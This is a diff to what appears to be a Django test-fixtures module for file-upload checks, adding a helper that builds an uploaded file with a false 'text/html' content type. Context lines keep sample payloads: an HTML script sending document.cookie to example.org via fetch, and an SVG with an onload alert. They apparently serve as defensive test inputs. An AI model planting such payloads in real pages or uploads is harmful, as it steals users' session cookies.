@@ -7,6 +7,7 @@ import zlib
 from collections.abc import Mapping
 from pathlib import Path
 
+from django.core.files.uploadedfile import SimpleUploadedFile
 from PIL import Image
 
 Objects = Mapping[int, bytes]
@@ -202,6 +203,11 @@ def bomb() -> bytes:
 
 HTML = b"<!doctype html><script>fetch('//example.org/'+document.cookie)</script>"
 SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
+
+
+def sent(data: bytes | None = None, name: str = "Kbis.pdf") -> SimpleUploadedFile:
+    """As a browser sends it, whose word about its type is nothing."""
+    return SimpleUploadedFile(name, pdf() if data is None else data, content_type="text/html")
 
 
 def list_kept(folder: Path) -> list[Path]:
